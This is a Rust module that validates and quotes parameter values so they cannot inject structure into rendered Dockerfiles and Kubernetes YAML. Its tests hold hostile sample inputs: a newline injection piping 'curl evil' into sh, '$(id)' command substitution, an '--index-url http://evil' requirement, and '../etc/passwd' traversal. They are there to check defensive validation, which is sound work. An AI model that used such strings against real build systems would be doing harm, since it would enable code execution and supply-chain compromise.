//! Checks that keep parameter values from changing the structure of what they
//! are rendered into. Templates are plain text: a newline in `baseImage` would
//! add a Dockerfile instruction, a `: ` or `{` in a manifest name would add
//! YAML. Each value is checked against what its slot allows and refused,
//! naming the parameter, before anything is rendered.

use std::sync::OnceLock;

use regex::Regex;

/// What a value is, and so which characters it may hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Slot {
    /// `MyModel` or `package.module.MyModel`.
    PythonClass,
    /// `registry.example:5000/ns/name:tag` or `...@sha256:...`.
    ImageRef,
    /// An image reference pinned by digest (`...@sha256:<64 hex>`).
    ImageDigestRef,
    /// A PEP 440 version (`1.17.1`, `1.18.0rc1`).
    Version,
    /// One requirements.txt line (`scikit-learn==1.5.2`, `pkg[extra]>=1; python_version>"3"`).
    Requirement,
    /// An environment variable name.
    EnvName,
    /// Free text that is quoted by the renderer (env values, annotations):
    /// only control characters are refused.
    QuotedText,
    /// A URL (OCI `source` label).
    Url,
    /// A VCS revision (commit SHA, tag).
    Revision,
    /// A file path relative to the model directory.
    RelPath,
    /// A Kubernetes object name / namespace (RFC 1123 label).
    DnsLabel,
    /// A host name (RFC 1123 subdomain).
    DnsSubdomain,
    /// A Kubernetes label or annotation key (`prefix/name`).
    LabelKey,
    /// A Kubernetes label value.
    LabelValue,
    /// A resource quantity (`500m`, `1Gi`).
    Quantity,
    /// An image tag.
    Tag,
}

impl Slot {
    fn what(self) -> &'static str {
        match self {
            Slot::PythonClass => "a Python class name (`MyModel` or `module.MyModel`)",
            Slot::ImageRef => "an image reference",
            Slot::ImageDigestRef => "an image reference pinned by digest (`REPO@sha256:<64 hex>`)",
            Slot::Version => "a version (`1.17.1`)",
            Slot::Requirement => "a requirements.txt line (`name==version`)",
            Slot::EnvName => "an environment variable name (`[A-Za-z_][A-Za-z0-9_]*`)",
            Slot::QuotedText => "text",
            Slot::Url => "a URL",
            Slot::Revision => "a revision (commit SHA or tag)",
            Slot::RelPath => "a relative path inside the model directory",
            Slot::DnsLabel => "a name of lowercase letters, digits and `-` (RFC 1123 label, at most 63 characters)",
            Slot::DnsSubdomain => "a host name (RFC 1123 subdomain)",
            Slot::LabelKey => "a label key (`[prefix/]name`)",
            Slot::LabelValue => "a label value (at most 63 of `A-Za-z0-9._-`, alphanumeric at both ends)",
            Slot::Quantity => "a resource quantity (`500m`, `1Gi`)",
            Slot::Tag => "an image tag",
        }
    }

    fn pattern(self) -> Option<&'static str> {
        Some(match self {
            Slot::PythonClass => r"^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*$",
            Slot::ImageRef => {
                r"^[a-z0-9]+([._-]+[a-z0-9]+)*(:[0-9]+)?(/[a-z0-9]+([._-]+[a-z0-9]+)*)*(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(@sha256:[0-9a-f]{64})?$"
            }
            Slot::ImageDigestRef => {
                r"^[a-z0-9]+([._-]+[a-z0-9]+)*(:[0-9]+)?(/[a-z0-9]+([._-]+[a-z0-9]+)*)*@sha256:[0-9a-f]{64}$"
            }
            Slot::Version => r"^[0-9]+(\.[0-9]+)*([a-zA-Z0-9.+!-]*)$",
            Slot::Requirement => {
                r#"^[A-Za-z0-9][A-Za-z0-9._-]*(\[[A-Za-z0-9._, -]*\])?\s*([<>=!~]=?[^,;\s]+\s*(,\s*[<>=!~]=?[^,;\s]+\s*)*)?(;[A-Za-z0-9_.<>=!~'" ()-]*)?$"#
            }
            Slot::EnvName => r"^[A-Za-z_][A-Za-z0-9_]*$",
            Slot::QuotedText => return None,
            Slot::Url => r"^[A-Za-z][A-Za-z0-9+.-]*://[A-Za-z0-9._~:/?#\[\]@!&'()*+,;=%-]+$",
            Slot::Revision => r"^[A-Za-z0-9._/-]{1,255}$",
            Slot::RelPath => r"^[A-Za-z0-9._+@-][A-Za-z0-9._+@/ -]*$",
            Slot::DnsLabel => r"^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$",
            Slot::DnsSubdomain => r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$",
            Slot::LabelKey => {
                r"^([a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*/)?[A-Za-z0-9]([A-Za-z0-9._-]{0,61}[A-Za-z0-9])?$"
            }
            Slot::LabelValue => r"^([A-Za-z0-9]([A-Za-z0-9._-]{0,61}[A-Za-z0-9])?)?$",
            Slot::Quantity => r"^[0-9]+(\.[0-9]+)?(m|k|M|G|T|P|E|Ki|Mi|Gi|Ti|Pi|Ei)?$",
            Slot::Tag => r"^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$",
        })
    }

    fn regex(self) -> Option<&'static Regex> {
        macro_rules! cached {
            ($($slot:ident),*) => {
                match self {
                    $(Slot::$slot => {
                        static RE: OnceLock<Regex> = OnceLock::new();
                        Some(RE.get_or_init(|| Regex::new(Slot::$slot.pattern().expect("pattern")).expect("static regex")))
                    })*
                    Slot::QuotedText => None,
                }
            };
        }
        cached!(
            PythonClass,
            ImageRef,
            ImageDigestRef,
            Version,
            Requirement,
            EnvName,
            Url,
            Revision,
            RelPath,
            DnsLabel,
            DnsSubdomain,
            LabelKey,
            LabelValue,
            Quantity,
            Tag
        )
    }
}

/// Why `value` may not go into `slot`, or `None` if it may. The reason names
/// the offending character; the caller prefixes the parameter name.
pub(crate) fn refusal(value: &str, slot: Slot) -> Option<String> {
    if let Some(c) = value.chars().find(|c| c.is_control()) {
        let name = match c {
            '\n' => "a newline".to_string(),
            '\r' => "a carriage return".to_string(),
            '\t' => "a tab".to_string(),
            c => format!("the control character U+{:04X}", c as u32),
        };
        return Some(format!(
            "contains {name}, which would inject a Dockerfile instruction or YAML structure; refused"
        ));
    }
    if slot == Slot::QuotedText {
        return None;
    }
    if value.is_empty() {
        return Some(format!("is empty; expected {}", slot.what()));
    }
    if slot == Slot::DnsSubdomain && value.len() > 253 {
        return Some(format!("is longer than 253 characters; expected {}", slot.what()));
    }
    if slot == Slot::RelPath && (value.split('/').any(|p| p == ".." || p == ".") || value.ends_with('/')) {
        return Some(format!("leaves the model directory or names no file; expected {}", slot.what()));
    }
    let re = slot.regex()?;
    if re.is_match(value) {
        return None;
    }
    // Name a character that YAML or a Dockerfile would read as structure, if there is one.
    const STRUCTURAL: &[char] =
        &['"', '\'', '\\', '$', '`', '{', '}', '[', ']', ':', '#', '&', '*', '!', '|', '>', '%', '@', ' ', ','];
    let special = value.chars().find(|c| STRUCTURAL.contains(c) && !allowed_in(*c, slot));
    Some(match special {
        Some(c) => format!("contains `{c}`, which is not allowed in {}; refused", slot.what()),
        None => format!("is not {}", slot.what()),
    })
}

/// Characters from the structural set that a slot's own syntax uses.
fn allowed_in(c: char, slot: Slot) -> bool {
    match slot {
        Slot::ImageRef | Slot::ImageDigestRef => matches!(c, ':' | '@'),
        Slot::Requirement => matches!(c, '[' | ']' | ',' | ' ' | '>' | '!' | '\'' | '"' | '@' | ':'),
        Slot::Url => matches!(c, ':' | '@' | '#' | '&' | '!' | '*' | ',' | '[' | ']' | '%' | '\''),
        Slot::RelPath => matches!(c, ' ' | '@'),
        Slot::Version => c == '!',
        _ => false,
    }
}

/// `value` as a double-quoted Dockerfile word: `\`, `"` and `$` escaped, so
/// an `ENV` value is taken literally. Control characters are refused earlier.
pub(crate) fn dockerfile_quote(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('"');
    for c in value.chars() {
        if matches!(c, '\\' | '"' | '$') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// `value` as a YAML double-quoted scalar. A JSON string is one, and it keeps
/// `true`, `123` or `null` strings from being read as other types.
pub(crate) fn yaml_quote(value: &str) -> String {
    serde_json::to_string(value).expect("a string always serializes")
}

/// A value shortened for messages: one line, at most 60 characters.
pub fn display_value(v: &str) -> String {
    let one_line: String = v.chars().map(|c| if c.is_control() { '⏎' } else { c }).collect();
    if one_line.chars().count() > 60 {
        format!("{}…", one_line.chars().take(60).collect::<String>())
    } else {
        one_line
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn newline_is_refused_in_every_slot() {
        for slot in [Slot::ImageRef, Slot::QuotedText, Slot::Requirement, Slot::EnvName, Slot::DnsLabel] {
            let why = refusal("ok\nRUN curl evil | sh", slot).expect("refused");
            assert!(why.contains("newline"), "{slot:?}: {why}");
        }
    }

    #[test]
    fn structural_characters_are_named() {
        assert_eq!(
            refusal("ubi9\"python", Slot::ImageRef).as_deref(),
            Some("contains `\"`, which is not allowed in an image reference; refused")
        );
        assert!(refusal("my-model: {x}", Slot::DnsLabel).unwrap().contains("`:`"));
        assert!(refusal("$(id)", Slot::Revision).unwrap().contains("`$`"));
    }

    #[test]
    fn ordinary_values_pass() {
        assert_eq!(refusal("registry.access.redhat.com/ubi9/python-311", Slot::ImageRef), None);
        assert_eq!(refusal("127.0.0.1:5000/ns/img:v1.2", Slot::ImageRef), None);
        let digest = format!("reg:5000/ns/weather@sha256:{}", "a".repeat(64));
        assert_eq!(refusal(&digest, Slot::ImageDigestRef), None);
        assert!(refusal("reg:5000/ns/weather:latest", Slot::ImageDigestRef).is_some());
        assert_eq!(refusal("pkg.module.MyModel", Slot::PythonClass), None);
        assert_eq!(refusal("scikit-learn==1.5.2", Slot::Requirement), None);
        assert_eq!(refusal("uvicorn[standard]>=0.20,<1; python_version >= \"3.8\"", Slot::Requirement), None);
        assert!(refusal("--index-url http://evil", Slot::Requirement).is_some());
        assert_eq!(refusal("https://github.com/org/repo.git", Slot::Url), None);
        assert_eq!(refusal("1.17.1", Slot::Version), None);
        assert_eq!(refusal("models/model.joblib", Slot::RelPath), None);
        assert!(refusal("../etc/passwd", Slot::RelPath).is_some());
        assert_eq!(refusal("500m", Slot::Quantity), None);
        assert_eq!(refusal("app.kubernetes.io/name", Slot::LabelKey), None);
        assert_eq!(refusal("weather-1.0", Slot::LabelValue), None);
    }

    #[test]
    fn quoting_is_literal() {
        assert_eq!(dockerfile_quote(r#"a "b" $HOME \n"#), r#""a \"b\" \$HOME \\n""#);
        assert_eq!(yaml_quote("true"), "\"true\"");
    }
}
